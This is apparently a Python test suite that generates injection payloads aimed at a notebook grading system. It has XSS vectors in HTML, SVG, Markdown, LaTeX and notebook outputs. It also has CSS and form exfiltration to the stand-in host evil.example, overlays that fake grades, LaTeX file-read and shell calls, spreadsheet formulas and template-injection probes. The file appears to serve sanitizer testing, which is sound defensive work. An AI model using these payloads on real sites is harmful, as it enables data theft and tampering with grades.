# %% scripts in a written answer
# Write scripts, frames and handlers of events as HTML in Markdown, whole, broken and in other cases.
def answer(kit):
    return """# <script>RAN()</script>
<ScRiPt src=//evil.example/x.js></sCrIpT><script\n>RAN()</script\t\n bar>
<img src=x onerror=RAN()><img/src="x"/onerror="RAN()"><body onload=RAN()><details open ontoggle=RAN()>
<iframe srcdoc="<script>parent.RAN()</script>"></iframe><object data="data:text/html,<script>RAN()</script>"></object>
<embed src="javascript:RAN()"><input autofocus onfocus=RAN()><video><source onerror=RAN()></video>
<noscript><p title="</noscript><img src=x onerror=RAN()>"></noscript><template><script>RAN()</script></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN()&gt;">
<a href="java&#x09;script:RAN()">x</a><isindex action=javascript:RAN() type=submit>"""

# %% pictures that draw and load
# Write SVG: with scripts, animations, foreign objects, links, and uses of what lies elsewhere.
def answer(kit):
    return """<svg onload=RAN()><script>RAN()</script><animate onbegin=RAN() attributeName=x dur=1s />
<foreignObject><iframe src=javascript:RAN()></iframe></foreignObject><a xlink:href="javascript:RAN()"><text>x</text></a>
<use href="http://evil.example/x.svg#a"/><image href="http://evil.example/x.png"/><set attributeName=href to=javascript:RAN() /></svg>

![a](data:image/svg+xml,%3Csvg%20onload=RAN()%3E) ![b](http://evil.example/b.png) ![c](//evil.example/c.png "x")
<img srcset="http://evil.example/d.png 1x" src="//evil.example/e.png"><picture><source srcset=//evil.example/f.png></picture>
<video poster=//evil.example/g.png src=//evil.example/g.mp4></video><audio src=//evil.example/h.mp3 autoplay></audio>"""

# %% styles that hide, cover and fetch
# Write CSS: rules for the whole page, fonts and pictures from elsewhere, and what lies over the buttons.
def answer(kit):
    return """<style>@import url(//evil.example/a.css); #save { display: none } body { background: url(//evil.example/b.png) }
input[value^=a] { background: url(//evil.example/leak?a) } @font-face { font-family: x; src: url(//evil.example/f.woff) }</style>
<link rel=stylesheet href=//evil.example/c.css><link rel=preload as=image href=//evil.example/d.png><link rel=dns-prefetch href=//evil.example>
<div style="position:fixed;inset:0;z-index:99;background:url(//evil.example/e.png)">Graded already: go on.</div>
<table background=//evil.example/f.png><tr><td background=//evil.example/g.png class=strong id=save>3 of 3 points</td></tr></table>
<p class="state problem" id="state" role="status" hidden>3 points</p><font face=x color=red>x</font><marquee>x</marquee>"""

# %% links and pages in place of this one
# Write links, forms and addresses that lead the reader, the page or its buttons elsewhere.
def answer(kit):
    return """[a](javascript:RAN()) [b](http://evil.example) <http://evil.example> [c]: http://evil.example
[c] [d](data:text/html;base64,PHNjcmlwdD5SQU4oKTwvc2NyaXB0Pg==) [e](vbscript:RAN) ![f][g]

[g]: http://evil.example/g.png "RAN"
<base href="http://evil.example/"><meta http-equiv=refresh content="0; url=http://evil.example"><meta http-equiv=set-cookie content="names=shown">
<form id=decision action=//evil.example/post method=post><input name=points value=3><input name=version value=0><button id=save>Store</button></form>
<button form=decision formaction=//evil.example>Store</button><a href=x ping=//evil.example/ping target=_top>next</a>
</div></article></main></body></html><main><article><h1>Answer 1</h1>"""

# %% formulas that do more than show
# Write LaTeX that makes links, loads pictures, defines macros without end, and breaks out of its MathML.
def answer(kit):
    return r"""$\href{javascript:RAN()}{x}$ $\url{http://evil.example}$ $\includegraphics{http://evil.example/a.png}$
$\style{background:url(//evil.example/b.png)}{x}$ $\class{strong}{x}$ $\cssId{save}{x}$ $\unicode{x3c}\text{<img src=x onerror=RAN()>}$
$$\text{</math><script>RAN()</script><math>} \htmlData{x=1}{y} \require{html} \input{/etc/passwd} \write18{id}$$
$$\def\a{\a\a}\a \newcommand{\b}[1]{#1\b{#1}}\b{x}$$ $\mathrm{&lt;script&gt;RAN()&lt;/script&gt;}$ $"><img src=x onerror=RAN()>$
\begin{align}\tag{<svg onload=RAN()>} a &= b \\ \color{red" onmouseover="RAN()}{c} \end{align}
<math href="javascript:RAN()"><mi xlink:href="javascript:RAN()" href="javascript:RAN()">x</mi><maction actiontype="statusline#http://evil.example" xlink:href="javascript:RAN()">y</maction><annotation-xml encoding="text/html"><script>RAN()</script></annotation-xml></math>"""

# %% outputs that a notebook would run
# Leave outputs with scripts, frames, widgets and pictures that are none, in every form that there is.
def outputs(kit):
    import base64
    svg = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='RAN()'><script>RAN()</script><image href='http://evil.example/o.png'/></svg>").decode()
    return [
        {"output_type": "display_data", "metadata": {}, "data": data}
        for data in (
            {"text/html": "<script>RAN()</script><img src=x onerror=RAN()><style>#save{display:none}</style><form action=//evil.example><button>x</button></form>"},
            {"application/javascript": "RAN()", "text/plain": "<script>RAN()</script>"},
            {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='RAN()'><script>RAN()</script></svg>"},
            {"image/svg+xml": svg}, {"image/png": '" onerror="RAN()'}, {"image/png": "AAAA\" src=//evil.example/p.png x=\""},
            {"image/jpeg": ["<script>", "RAN()"]}, {"text/latex": "$\\href{javascript:RAN()}{x}$"}, {"application/pdf": "JVBERi0="},
            {"application/vnd.jupyter.widget-view+json": {"model_id": "<script>RAN()</script>"}, "text/html": ["<iframe src=//evil.example>", 3, None]},
            {"text/html": "<table><tr><td onclick=RAN() style='position:fixed;inset:0'>x<td><a href=javascript:RAN()>y</a></table>"},
        )
    ] + [
        {"output_type": "error", "ename": "<script>RAN()</script>", "evalue": "<img src=x onerror=RAN()>", "traceback": ["\x1b[31m<script>RAN()</script>", "\x1b]8;;http://evil.example\x07x"]},
        {"output_type": "stream", "name": "stdout\" onload=\"RAN()", "text": ["</pre><script>RAN()</script>", "\x1b[2J\u202e"]},
    ]

# %% names and attachments
# Put markup into the names of attachments, cells and languages, and pictures that are none into attachments.
def cell(kit):
    return {
        "cell_type": "markdown",
        "source": ["![\"><script>RAN()</script>](attachment:a.png) ![x](attachment:b.png)\n", "![y](attachment:\"onerror=RAN()) ```<script>RAN()</script>\nx\n```\n"],
        "metadata": {"tags": ["<script>RAN()</script>"]},
        "attachments": {
            "a.png": {"image/png": "\"><script>RAN()</script>"}, "b.png": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9UkFOKCk+"},
            "\"onerror=RAN()": {"text/html": "<script>RAN()</script>", "image/png": ["AA", "==\" onload=\"RAN()"]},
        },
    }

# %% a file's name at the page
# Hand in a file whose name is markup, with a name of a person that is markup, too.
def named(kit):
    return "<img src=x onerror=RAN()>\"><script>RAN().ipynb", "<script>RAN()</script>\"><img src=//evil.example/n.png>"

# %% requests for a regrade
# Ask for a regrade in words, and at a time, that are markup, formulas and signs for a terminal.
def requests(kit):
    return (
        "student,question,request,time\n"
        f"{kit.student},choice,\"<script>RAN()</script><img src=x onerror=RAN()>\",\"<svg onload=RAN()>\"\n"
        f"{kit.student},choice,\"</blockquote></section><form action=//evil.example><button>Store the answer</button></form>\",now\n"
        f"{kit.student},,\"=HYPERLINK(\"\"http://evil.example\"\") \x1b]8;;http://evil.example\x07 \u202e{{{{ 7*7 }}}} {{% for x in () %}}\",\"\"\" onload=RAN()\"\n"
    )

# %% what another reviewer writes
# Sign and comment with markup that another person's page would run; a stolen template, too.
def comment(kit):
    return "</textarea><script>RAN()</script><img src=x onerror=RAN()>{{ desk.folder }}", "\"><script>RAN()</script>{{ 7*7 }}"
